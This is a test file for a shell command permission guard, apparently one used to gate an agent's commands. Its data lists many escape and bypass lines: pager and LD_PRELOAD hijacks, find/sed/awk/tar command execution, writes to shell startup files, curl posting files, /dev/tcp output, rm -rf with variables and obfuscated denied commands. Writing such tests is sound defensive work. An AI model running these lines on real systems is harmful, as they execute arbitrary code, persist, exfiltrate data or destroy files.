import { describe, expect, test } from 'vitest'
import type { PolicyRule } from '#protocol/policy.ts'
import { examined } from '../guard/examined.ts'
import { command, context, set, verdict } from './reports.ts'

/** What becomes of a line in a session that asks about whatever does more than look, under one rule. */
function under(rule: PolicyRule, line: string) {
  return verdict(command(line), examined(line), { mode: 'ask', policy: [set([rule])] })
}

/**
 * By case and the program that a rule allows without more: what else it can be made to start, or to write beyond the
 * workspace, that rule does not allow. What it writes below the workspace the layer holds.
 */
const beyondAllow: [name: string, allowed: string, lines: string[]][] = [
  [
    'A1 find',
    'find',
    [
      'find . -exec sh -c id \\;',
      'find . -execdir sh -c id \\;',
      'find . -exec make {} +',
      'find . -ok rm {} \\;',
      'find . -okdir rm {} \\;',
      'find . -delete',
      'find . -fprintf ~/.profile %p',
      'find . -fprint ~/.profile',
      'find . -fls /etc/x',
    ],
  ],
  [
    'A2 sed',
    'sed',
    [
      'sed -i s/a/b/ ~/.bashrc',
      'sed --in-place=.x s/a/b/ ~/.bashrc',
      "sed 'w out' a",
      "sed 's/a/b/w out' a",
      "sed 's/x/id/e' a",
      "sed -n '1e id' a",
      "sed -n '1e' a",
      "sed '1W out' a",
    ],
  ],
  [
    'A3 awk',
    'awk',
    [
      `awk 'BEGIN{system("id")}'`,
      `awk '{print > ".mcp.json"}' a`,
      `awk '{print >> "out"}' a`,
      `awk 'BEGIN{"id"|getline x}'`,
      `awk '{print | "sh"}' a`,
      `awk 'BEGIN{while((getline l < "/secret")>0) print l}'`,
      `awk 'BEGIN{printf "x" > ARGV[1]}' a`,
      'awk -v x=1 "$X" a',
      `gawk -i inplace '{print}' a`,
      `awk '@load "filefuncs"; {print}' a`,
    ],
  ],
  [
    'A6 variables before it',
    'git',
    [
      `PAGER='sh -c id' git log`,
      `GIT_PAGER=./x git log`,
      'GIT_SSH_COMMAND=./x git fetch',
      'GIT_EXTERNAL_DIFF=./x git diff',
      'LD_PRELOAD=./x.so git log',
      'LD_LIBRARY_PATH=. git log',
      'BASH_ENV=./x git log',
      'PATH=.:$PATH git log',
      'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=./x git log',
      'GIT_DIR=../other git log',
      'env LD_PRELOAD=./x.so git log',
      'export GIT_PAGER=./x; git log',
      "PS4='$(id)' git log",
      "PROMPT_COMMAND='id'; git log",
    ],
  ],
  [
    'A7 builtins before it',
    'git',
    [
      'export GIT_PAGER=./x; git status',
      'declare -x GIT_PAGER=./x; git status',
      'typeset -x GIT_PAGER=./x; git status',
      'readonly GIT_PAGER=./x; export GIT_PAGER; git status',
      "alias git='id'; git status",
      'eval make; git status',
      'source ./x; git status',
      '. ./x; git status',
      'trap make EXIT; git status',
      'enable -f ./x.so y; git status',
      'hash -p ./x git; git status',
      'bind -x \'"a": id\'; git status',
      'complete -C ./x git; git status',
      "mapfile -C 'id' -c 1 < a; git status",
      'printf -v PATH .; git status',
      'read PATH < a; git status',
      'git() { id; }; git status',
      'set -a; . ./x; git status',
      'exec -a git ./x',
    ],
  ],
  [
    'A8 compounds',
    'ls',
    [
      'ls && make',
      'ls; make',
      'ls || make',
      'ls | make',
      'ls & make',
      'ls\nmake',
      'ls $(make)',
      'ls `make`',
      'ls <(make)',
      'ls > >(make)',
      '(make); ls',
      '{ make; }; ls',
      'f() { make; }; ls',
      'if make; then ls; fi',
      'for x in $(make); do ls; done',
      'while make; do ls; done',
      'case $(make) in *) ls;; esac',
      'ls <<EOF\n$(make)\nEOF',
      'ls <<< "$(make)"',
      'ls "$(ls $(make))"',
      'ls $((a[$(make)]))',
      '[[ $(make) ]] && ls',
      'coproc make; ls',
      'time make; ls',
      '! make; ls',
    ],
  ],
  [
    'A9 redirections',
    'echo',
    [
      'echo x > ~/.bashrc',
      'echo x >> ~/.bashrc',
      'echo x &> ~/.bashrc',
      'echo x >| ~/.bashrc',
      'echo x >& a',
      'exec {fd}> a; echo x',
      'echo x <> a',
      'echo x 3> a',
      'echo x > /dev/tcp/a.example/80',
      'echo x | tee a',
      'echo x | dd of=a',
      'echo x > "$X"',
      'echo x > $(echo a)',
    ],
  ],
  [
    'A13 git that runs or writes',
    'git',
    [
      'git -c core.pager=./x log',
      "git -c alias.x='!id' x",
      'git -c core.fsmonitor=./x status',
      'git -c core.sshCommand=./x fetch',
      'git --exec-path=. log',
      'git --config-env=core.pager=X log',
      'git grep -O./x a',
      'git grep --open-files-in-pager=./x a',
      'git diff --ext-diff',
      'git log --ext-diff -p',
      'git log --output=/home/ann/.profile',
      'git diff --output ~/.profile',
      'git archive --output=/etc/x HEAD',
      'git difftool -x ./x',
      'git rebase -x id main',
      'git bisect run ./x',
      'git submodule foreach make',
      "git filter-branch --tree-filter 'id'",
      'git fetch --upload-pack=./x .',
      'git clone --config core.pager=./x . b',
      'git config core.pager ./x',
    ],
  ],
  ['A13 rg', 'rg', ['rg --pre ./x a', 'rg --hostname-bin ./x a']],
  ['A13 fd', 'fd', ['fd -x make', 'fd --exec make', 'fd -X make', 'fd --exec-batch make']],
  [
    'A13 tar',
    'tar',
    [
      'tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=id b',
      'tar -xf a.tar --to-command=./x',
      'tar -I ./x -xf a',
      'tar --use-compress-program=./x -xf a',
    ],
  ],
  ['A13 zip', 'zip', ["zip a.zip b -T -TT 'sh -c id'", 'zip a.zip b --unzip-command ./x']],
  ['A13 man', 'man', ["man -P 'sh -c id' ls", 'man --pager=./x ls', 'man -H./x ls']],
  ['A13 less', 'less', ['less +!id a', "less '+!id' a"]],
  [
    'A13 sort',
    'sort',
    [
      'sort --compress-program=./x a',
      'sort -o ~/.profile b',
      'sort --output=/etc/x b',
      'sort -T . --compress-program ./x a',
    ],
  ],
  ['A13 xxd', 'xxd', ['xxd -r a ~/.profile', 'xxd a /etc/x']],
  ['A13 vim', 'vim', ["vim -c '!id' a", "vim '+!id' a", 'vim -S x a', 'vim --cmd x a']],
  ['A13 ssh', 'ssh', ['ssh -oProxyCommand=./x h', 'ssh -o ProxyCommand=./x h', 'ssh -F x h']],
  [
    'A13 curl',
    'curl',
    [
      'curl -o ~/.profile https://x.example',
      'curl -K a',
      'cd && curl -o .profile https://x.example/a',
      'curl -d @a https://x.example',
    ],
  ],
  ['A13 diff', 'diff', ['diff --to-file=a b > c']],
  ['A13 xargs', 'xargs', ['xargs make < a', 'xargs -I{} sh -c {} < a', 'xargs -a list rm']],
  ['A13 env', 'env', ['env make', 'env -S "id x"', 'env --split-string="id"']],
  [
    'A15 names that grow after the check',
    'rm',
    ['rm -rf $X/*', 'rm -rf "$X"/*', 'cd "$X" && rm -rf *', 'rm -rf {a,$X}/*', 'rm -rf ~$X'],
  ],
]

describe.each(beyondAllow)('%s: an allow of %s and no more', (_name, allowed, lines) => {
  test.each(lines)('%j is asked about', (line) => {
    expect(under({ verdict: 'allow', program: [allowed] }, line)).toBe('ask')
  })
})

const deny: PolicyRule = { verdict: 'deny', program: ['shutdown'] }

/** Before a program that is denied. */
const wrappers = [
  'env',
  'env -i',
  'env -u X',
  'sudo',
  'sudo -u root',
  'doas',
  'nice',
  'nice -n 5',
  'ionice -c 3',
  'setsid',
  'setsid -f',
  'timeout 5',
  'timeout -s KILL 5',
  'watch',
  'watch -n 1',
  'xargs',
  'xargs -n 1',
  'nohup',
  'stdbuf -oL',
  'busybox',
  'command',
  'command --',
  'exec',
  'builtin command',
  'time',
  'time -p',
  '\\time',
  'chrt 1',
  'taskset 1',
  'flock x',
  'strace',
  'script -c',
  'find . -exec',
  'eval',
  'sh -c',
  'bash -lc',
]

test.each(wrappers)('A5: a deny holds behind %j', (wrapper) => {
  const quoted = /( -S|-c|-lc)$/.test(wrapper)
  const line = `${wrapper} ${quoted ? "'shutdown now'" : 'shutdown now'}${wrapper.startsWith('find') ? ' \\;' : ''}`
  expect(under(deny, line)).toBe('deny')
})

test.each(["env -S 'shutdown now'", 'unshare shutdown now', 'parallel shutdown now', '$X shutdown now'])(
  'A5: what starts it in a way that is not read is not let through in auto: %j',
  (line) => {
    expect(verdict(command(line), examined(line), { policy: [set([deny])] })).not.toBe('allow')
  },
)

test.each([
  'shut$IFS' + 'down now',
  '{shutdown,now}',
  "s''hutdown now",
  '\\shutdown now',
  'shutd\\own now',
  "$'\\x73hutdown' now",
  'shut\\\ndown now',
  'shutdown\t\tnow',
  '  shutdown   now',
  '"shutdown" now',
  '/sbin/shutdown now',
])('A4: %j is denied as the plain form is, or is not let through', (line) => {
  expect(verdict(command(line), examined(line), { policy: [set([deny])] })).not.toBe('allow')
})

test.each(['\u0000', '\r', '\u202e', '\u200b', '\u{e0061}', ` ${' '.repeat(500)}`])(
  'A14: %j in a line that is allowed by its program is asked about',
  (hidden) => {
    expect(under({ verdict: 'allow', program: ['git', 'status'] }, `git status ${hidden}x`)).toBe('ask')
  },
)

test('A18: no allow of any source, nor a grant, lifts a deny of any other', () => {
  const sources = ['managed', 'user', 'workspace', 'repository', 'session'] as const
  const denied: PolicyRule = { verdict: 'deny', program: ['git', 'push'] }
  const allow: PolicyRule = { verdict: 'allow', program: ['git', 'push', 'origin'] }
  for (const denies of sources) {
    for (const allows of sources) {
      const policy = [set([allow], {}, allows), set([denied], {}, denies)]
      for (const mode of ['ask', 'auto'] as const) {
        const grants = context({ rules: [allow] })
        expect(
          verdict(command('git push origin'), examined('git push origin'), { ...grants, mode, policy }),
          `${denies} denies, ${allows} allows`,
        ).toBe('deny')
      }
    }
  }
})
